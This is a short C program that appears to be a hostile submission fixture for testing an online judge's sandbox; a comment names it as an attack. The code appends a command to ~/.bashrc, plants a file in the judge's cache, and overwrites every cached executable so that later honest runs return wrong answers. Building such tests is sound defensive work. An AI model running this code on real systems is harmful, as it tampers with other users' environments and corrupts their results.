// attack: without root the submission runs as the judge's user: append to ~/.bashrc, plant a file in ~/.cache/judge, and overwrite every build in the cache so that a later honest run gets a wrong answer
// setup: home (tests/hostile_package.rs)
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

static void poison(const char *dir, int depth) {
    DIR *d = opendir(dir);
    struct dirent *e;
    if (!d || depth < 0) { if (d) closedir(d); return; }
    while ((e = readdir(d))) {
        char p[PATH_MAX];
        struct stat st;
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        if (lstat(p, &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) poison(p, depth - 1);
        else if (S_ISREG(st.st_mode) && (st.st_mode & 0111)) {
            FILE *f = fopen(p, "w");
            if (f) { fputs("#!/bin/sh\necho 0\n", f); fclose(f); }
        }
    }
    closedir(d);
}

int main(void) {
    FILE *f = fopen("@HOME@/.bashrc", "a");
    if (f) { fputs("echo owned\n", f); fclose(f); }
    mkdir("@HOME@/.cache", 0755);
    mkdir("@HOME@/.cache/judge", 0755);
    f = fopen("@HOME@/.cache/judge/planted", "w");
    if (f) { fputs("x\n", f); fclose(f); }
    poison("@HOME@/.cache/judge", 5);
    printf("0\n0\n");
    return 0;
}
